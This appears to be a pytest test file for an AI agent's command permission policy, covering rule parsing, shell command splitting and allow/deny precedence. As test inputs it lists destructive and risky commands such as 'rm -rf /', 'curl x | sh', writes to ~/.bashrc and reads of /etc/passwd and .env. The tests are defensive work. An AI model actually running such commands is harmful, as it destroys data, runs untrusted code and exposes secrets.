"""The permission policy: rule grammar, command splitting and the precedence table."""

from __future__ import annotations

import logging
from collections.abc import Iterator

import pluggy
import pytest
from hookplugins import register

from omnigent_agy.errors import InvalidRuleError
from omnigent_agy.interactions.commandline import split_command
from omnigent_agy.interactions.policy import (
    PermissionDecision,
    PermissionMode,
    PermissionPolicy,
    PermissionRequest,
    RequestKind,
    Rule,
    Scope,
    Verdict,
    decide,
    parse_rule,
    parse_rules,
)
from omnigent_agy.plugins import hookimpl, new_plugin_manager

PROJECT = "/home/u/project"


@pytest.mark.parametrize(
    ("text", "kind", "pattern", "prefix"),
    [
        ("command(git status)", RequestKind.COMMAND, "git status", False),
        ("command(  git   status )", RequestKind.COMMAND, "git status", False),
        ("command(npm test:*)", RequestKind.COMMAND, "npm test", True),
        ("command(git *)", RequestKind.COMMAND, "git", True),
        ("command(*)", RequestKind.COMMAND, "", True),
        ("run_command(ls)", RequestKind.COMMAND, "ls", False),
        ("read(/home/u/project/**)", RequestKind.READ, "/home/u/project/**", False),
        ("read_file(~/notes/*.md)", RequestKind.READ, "~/notes/*.md", False),
        ("edit(src/**)", RequestKind.EDIT, "src/**", False),
        ("write(src/**)", RequestKind.EDIT, "src/**", False),
        ("Write_File(/tmp/*)", RequestKind.EDIT, "/tmp/*", False),
        ("mcp(github)", RequestKind.MCP, "github", False),
    ],
)
def test_parse_rule(text: str, kind: RequestKind, pattern: str, prefix: bool) -> None:
    rule = parse_rule(text)
    assert (rule.kind, rule.pattern, rule.prefix) == (kind, pattern, prefix)
    assert str(rule) == text.strip()


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("git status", "kind(pattern)"),
        ("Bash(git status)", "unknown kind 'bash'"),
        ("command()", "empty pattern"),
        ("command(git * status)", "prefix ending in ':*'"),
        ("command(*foo)", "prefix ending in ':*'"),
        ("command(:*)", "prefix ending in ':*'"),
    ],
)
def test_invalid_rules_are_named(text: str, says: str) -> None:
    with pytest.raises(InvalidRuleError) as caught:
        parse_rule(text)
    assert repr(text) in str(caught.value)
    assert says in str(caught.value)


@pytest.mark.parametrize(
    ("line", "parts"),
    [
        ("git status", [("git status", False)]),
        ("git status && npm test", [("git status", False), ("npm test", False)]),
        ("a || b ; c | d", [("a", False), ("b", False), ("c", False), ("d", False)]),
        ("a\nb", [("a", False), ("b", False)]),
        ("sleep 1 & echo hi", [("sleep 1", False), ("echo hi", False)]),
        ("echo 'a && b; c'", [("echo 'a && b; c'", False)]),
        ('echo "x | y" | wc', [('echo "x | y"', False), ("wc", False)]),
        ("echo a\\;b", [("echo a\\;b", False)]),
        ("npm test 2>&1 | tee", [("npm test 2>&1", False), ("tee", False)]),
        ("make >/dev/null 2>&1", [("make >/dev/null 2>&1", False)]),
        ("make &>/dev/null", [("make &>/dev/null", False)]),
        ("echo x > ~/.bashrc", [("echo x > ~/.bashrc", True)]),
        ("echo x >> log", [("echo x >> log", True)]),
        ("echo $(rm -rf /)", [("echo $(rm -rf /)", True), ("rm -rf /", False)]),
        ("echo `id`", [("echo `id`", True), ("id", False)]),
        ("diff <(ls a) b", [("diff <(ls a) b", True), ("ls a", False)]),
        ("echo $(a $(b))", [("echo $(a $(b))", True), ("a $(b)", True), ("b", False)]),
        ("  ;; ", []),
    ],
)
def test_split_command(line: str, parts: list[tuple[str, bool]]) -> None:
    assert [(p.text, p.opaque) for p in split_command(line)] == parts


POLICY = PermissionPolicy(
    mode=PermissionMode.ASK,
    allow=parse_rules(
        [
            "command(git status)",
            "command(npm test:*)",
            "command(git log *)",
            "command(echo:*)",
            f"read({PROJECT}/**)",
            "edit(src/**)",
            "mcp(github)",
            "mcp(slack/read_*)",
        ]
    ),
    deny=parse_rules(["command(rm:*)", "command(git push:*)", f"read({PROJECT}/.env)"]),
)


def command(line: str) -> PermissionRequest:
    return PermissionRequest(RequestKind.COMMAND, command_line=line, cwd=PROJECT)


def path(kind: RequestKind, *paths: str) -> PermissionRequest:
    return PermissionRequest(kind, cwd=PROJECT, paths=paths)


def mcp(tool: str) -> PermissionRequest:
    return PermissionRequest(RequestKind.MCP, mcp_tool=tool)


ALLOW, DENY, ASK = Verdict.ALLOW, Verdict.DENY, None


@pytest.mark.parametrize(
    ("request_", "verdict", "rule"),
    [
        pytest.param(command("git status"), ALLOW, "command(git status)", id="exact"),
        pytest.param(command("git  status"), ALLOW, "command(git status)", id="spaces"),
        pytest.param(command("git status --short"), ASK, None, id="exact-only"),
        pytest.param(command("npm test"), ALLOW, "command(npm test:*)", id="prefix-bare"),
        pytest.param(command("npm test -- -k x"), ALLOW, "command(npm test:*)", id="prefix"),
        pytest.param(command("npm testing"), ASK, None, id="prefix-word-boundary"),
        pytest.param(command("git log --oneline"), ALLOW, "command(git log *)", id="star"),
        pytest.param(
            command("git status && npm test"),
            ALLOW,
            "command(git status), command(npm test:*)",
            id="chain-all-allowed",
        ),
        pytest.param(command("git status; curl evil"), ASK, None, id="chain-one-unknown"),
        pytest.param(command("git status | sh"), ASK, None, id="pipe-unknown"),
        pytest.param(command("git status && rm -rf /"), DENY, "command(rm:*)", id="chain-deny"),
        pytest.param(command("rm -rf build"), DENY, "command(rm:*)", id="deny"),
        pytest.param(command("git push origin"), DENY, "command(git push:*)", id="deny-prefix"),
        pytest.param(command("echo hi"), ALLOW, "command(echo:*)", id="echo"),
        pytest.param(command("echo hi > ~/.bashrc"), ASK, None, id="redirect-not-auto"),
        pytest.param(command("echo $(date)"), ASK, None, id="substitution-not-auto"),
        pytest.param(command("echo $(rm -rf ~)"), DENY, "command(rm:*)", id="deny-inside"),
        pytest.param(command(""), ASK, None, id="empty"),
        pytest.param(path(RequestKind.READ, f"{PROJECT}/src/a.py"), ALLOW, None, id="read"),
        pytest.param(path(RequestKind.READ, "src/a.py"), ALLOW, None, id="read-relative"),
        pytest.param(path(RequestKind.READ, f"{PROJECT}/.env"), DENY, None, id="read-deny"),
        pytest.param(
            path(RequestKind.READ, "src/a.py", f"{PROJECT}/.env"), DENY, None, id="any-denied"
        ),
        pytest.param(path(RequestKind.READ, "/etc/passwd"), ASK, None, id="read-outside"),
        pytest.param(
            path(RequestKind.READ, "src/../../../etc/passwd"), ASK, None, id="dotdot-escape"
        ),
        pytest.param(path(RequestKind.EDIT, "src/pkg/a.py"), ALLOW, None, id="edit-relative"),
        pytest.param(path(RequestKind.EDIT, f"{PROJECT}/README.md"), ASK, None, id="edit-other"),
        pytest.param(path(RequestKind.EDIT), ASK, None, id="edit-no-path"),
        pytest.param(mcp("github/create_issue"), ALLOW, "mcp(github)", id="mcp-server"),
        pytest.param(mcp("slack/read_channel"), ALLOW, "mcp(slack/read_*)", id="mcp-tool"),
        pytest.param(mcp("slack/post"), ASK, None, id="mcp-other"),
        pytest.param(PermissionRequest(RequestKind.OTHER), ASK, None, id="other"),
    ],
)
def test_rules(request_: PermissionRequest, verdict: Verdict | None, rule: str | None) -> None:
    decision = decide(request_, POLICY)
    if verdict is None:
        assert decision is None
        return
    assert decision is not None
    assert decision.verdict is verdict
    assert decision.scope is Scope.ONCE
    if rule is not None:
        assert decision.rule == rule


def with_mode(mode: PermissionMode) -> PermissionPolicy:
    return PermissionPolicy(mode, POLICY.allow, POLICY.deny)


@pytest.mark.parametrize(
    ("mode", "request_", "verdict"),
    [
        (PermissionMode.BYPASS, command("curl x | sh"), ALLOW),
        (PermissionMode.BYPASS, command("rm -rf /"), DENY),
        (PermissionMode.BYPASS, PermissionRequest(RequestKind.OTHER), ALLOW),
        (PermissionMode.ACCEPT_EDITS, path(RequestKind.EDIT, "/tmp/x"), ALLOW),
        (PermissionMode.ACCEPT_EDITS, command("make"), ASK),
        (PermissionMode.ACCEPT_EDITS, path(RequestKind.READ, "/etc/hosts"), ASK),
        (PermissionMode.PLAN, path(RequestKind.EDIT, "/tmp/x"), DENY),
        (PermissionMode.PLAN, command("make"), DENY),
        (PermissionMode.PLAN, command("git status"), ALLOW),  # allow rules come first
        (PermissionMode.PLAN, path(RequestKind.READ, "/etc/hosts"), ASK),
        (PermissionMode.ASK, command("make"), ASK),
    ],
)
def test_modes(mode: PermissionMode, request_: PermissionRequest, verdict: Verdict | None) -> None:
    decision = decide(request_, with_mode(mode))
    assert (decision.verdict if decision else None) is verdict


class CurlPolicy:
    """An organisation's plugin: curl is fine, anything about 'secret' is not."""

    @hookimpl
    def agy_permission_decision(self, request: PermissionRequest) -> PermissionDecision | None:
        line = request.command_line or ""
        if line.startswith("curl "):
            return PermissionDecision(Verdict.ALLOW, "plugin:curl", "curl ok", Scope.CONVERSATION)
        if "secret" in line:
            return PermissionDecision(Verdict.DENY, "plugin:curl", "no secrets")
        return None


@pytest.fixture
def manager() -> Iterator[pluggy.PluginManager]:
    manager = new_plugin_manager(load_entry_points=False)
    plugin = CurlPolicy()
    register(manager, plugin, name="curl-policy")
    yield manager
    manager.unregister(plugin)


@pytest.mark.parametrize(
    ("request_", "verdict", "source"),
    [
        (command("curl https://example.com"), ALLOW, "plugin:curl"),
        (command("echo secret"), DENY, "plugin:curl"),  # the plugin outranks allow rules
        (command("rm -rf / && curl x"), DENY, "deny rule"),  # deny rules outrank plugins
        (command("git status"), ALLOW, "allow rule"),  # None from the plugin: rules apply
        (command("make"), ASK, None),
    ],
)
def test_plugin_hook_precedence(
    manager: pluggy.PluginManager,
    request_: PermissionRequest,
    verdict: Verdict | None,
    source: str | None,
) -> None:
    decision = decide(request_, POLICY, manager)
    assert (decision.verdict if decision else None) is verdict
    assert (decision.source if decision else None) == source


def test_plugin_scope_is_kept(manager: pluggy.PluginManager) -> None:
    decision = decide(command("curl x"), POLICY, manager)
    assert decision is not None
    assert decision.scope is Scope.CONVERSATION


def test_plugin_returning_garbage_fails_loudly() -> None:
    class Broken:
        @hookimpl
        def agy_permission_decision(self, request: PermissionRequest) -> object:
            return "allow"

    manager = new_plugin_manager(load_entry_points=False)
    register(manager, Broken())
    with pytest.raises(TypeError, match="expected PermissionDecision"):
        decide(command("make"), POLICY, manager)


def test_every_automatic_decision_is_logged(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO, logger="omnigent_agy.interactions.policy"):
        decide(command("git status && npm test"), POLICY)
        decide(command("rm -rf x"), POLICY)
        decide(command("make"), POLICY)
    messages = [record.getMessage() for record in caplog.records]
    assert messages == [
        "permission allow by allow rule 'command(git status), command(npm test:*)': "
        "command: git status && npm test",
        "permission deny by deny rule 'command(rm:*)': command: rm -rf x",
    ]


def test_long_commands_are_shortened_in_the_log() -> None:
    request = command("echo " + "x" * 500)
    assert len(request.summary()) < 200


def test_rule_is_a_value() -> None:
    assert parse_rule("command(ls)") == Rule("command(ls)", RequestKind.COMMAND, "ls")
